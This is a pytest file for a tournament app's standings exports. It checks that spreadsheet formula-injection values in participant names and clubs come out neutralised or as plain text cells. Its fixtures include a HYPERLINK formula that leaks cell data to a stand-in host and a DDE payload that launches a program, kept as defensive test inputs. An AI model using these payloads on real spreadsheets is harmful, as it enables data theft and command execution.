"""Standings exports: formulas neutralised, numbers kept, the German Excel dialect."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from league.core.spreadsheets import neutralise
from league.tournaments import services as ts
from league.tournaments.csv_import import parse_participants
from league.tournaments.selectors import standings
from tests.tournaments.helpers import play_round

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "+49 Plus",
    "-2+3 Minus",
    "@SUM(A1:A9)",
]


def _tournament(names, clubs):
    t = ts.tournament_create(name="Pokal", date=dt.date(2026, 11, 21), rounds_planned=2)
    for name, club in zip(names, clubs, strict=True):
        ts.participant_add(tournament=t, name=name, club_name=club)
    rnd, _ = ts.round_draw(tournament=t, seed=3)
    play_round(rnd, seed=3)
    ts.round_close(tournament_round=rnd)
    return t


@pytest.fixture
def formula_tournament(db):
    names = [*FORMULAS, "Jürgen Weiß", "Bärbel Öz", 'Carla; "Cee"', "Dieter, Dr."]
    clubs = ["=cmd|' /C calc'!A0", "Köln", "", "Bonn", "Köln", "", "Bonn", "Köln"]
    return _tournament(names, clubs)


def _get(client, t, fmt):
    response = client.get(reverse("standings", args=[t.pk]), {"_export": fmt})
    assert response.status_code == 200
    return response


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert [neutralise(v) for v in ("+1", "-1", "@x", "\tx", "\rx")] == [
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
    ]
    assert neutralise("Anna") == "Anna"
    assert neutralise("") == ""


def test_csv_neutralises_formulas_and_keeps_numbers(client, formula_tournament):
    rows = list(csv.reader(io.StringIO(_get(client, formula_tournament, "csv").content.decode())))
    assert rows[0] == ["Platz", "Name", "Verein", "Runden", "R1", "Punkte"]
    names = {row[1] for row in rows[1:]}
    assert {"'" + f for f in FORMULAS} <= names
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    assert "'=cmd|' /C calc'!A0" in {row[2] for row in rows[1:]}
    totals = [row[5] for row in rows[1:]]
    assert any(t.startswith("-") for t in totals)  # a negative total stays a number
    assert all(t.lstrip("-").isdigit() for t in totals)


def test_excel_csv_is_the_german_dialect_and_round_trips(client, formula_tournament):
    t = formula_tournament
    response = _get(client, t, "csv-excel")
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads umlauts
    assert response["Content-Disposition"].endswith('-excel.csv"')
    text = response.content.decode("utf-8-sig")
    assert text.splitlines()[0] == "Platz;Name;Verein;Runden;R1;Punkte"
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    result = standings(tournament=t)
    expected = [
        [str(r.rank), neutralise(r.name), neutralise(r.club), str(r.rounds_played)]
        + [str(v) for v in r.per_round]
        + [str(r.total)]
        for r in result.rows
    ]
    assert rows[1:] == expected  # semicolons and quotes inside names survive
    assert '"Carla; ""Cee"""' in text


def test_excel_csv_feeds_the_participant_import(client, db):
    names = ["Jürgen Weiß", "Bärbel Öz", "Carla Cee", "Dieter Dee"]
    t = _tournament(names, ["Köln", "", "Bonn", "Köln"])
    preview = parse_participants(_get(client, t, "csv-excel").content)
    assert preview.issues == ()
    assert (preview.encoding, preview.delimiter) == ("UTF-8", ";")
    assert sorted((r.name, r.club) for r in preview.rows) == sorted(
        zip(names, ["Köln", "", "Bonn", "Köln"], strict=True)
    )
    assert [w.message for w in preview.warnings] == [
        "Diese Spalten werden nicht übernommen: Platz, Runden, R1, Punkte."
    ]


def test_xlsx_writes_text_cells_never_formulas(client, formula_tournament):
    content = _get(client, formula_tournament, "xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2))
    by_name = {row[1].value: row for row in rows}
    for formula in FORMULAS:
        cell = by_name[formula][1]
        assert cell.data_type == "s"  # the text as it is, as a string cell
    for row in rows:
        assert isinstance(row[0].value, int)  # rank
        assert isinstance(row[5].value, int)  # total
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml


def test_ods_writes_text_cells_never_formulas(client, formula_tournament):
    content = _get(client, formula_tournament, "ods").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("content.xml").decode()
    assert "table:formula" not in xml
    assert 'office:value-type="string"' in xml
    assert 'office:value-type="float"' in xml  # numbers stay numbers
    assert "=HYPERLINK(" in xml  # as the text of a string cell


def test_the_standings_page_offers_both_csv_dialects(client, formula_tournament):
    html = client.get(reverse("standings", args=[formula_tournament.pk])).content.decode()
    assert 'data-export="csv-excel"' in html
    assert 'data-export="csv"' in html
    assert (
        client.get(
            reverse("standings", args=[formula_tournament.pk]), {"_export": "pdf-nope"}
        ).status_code
        == 200
    )  # an unknown format is just the page
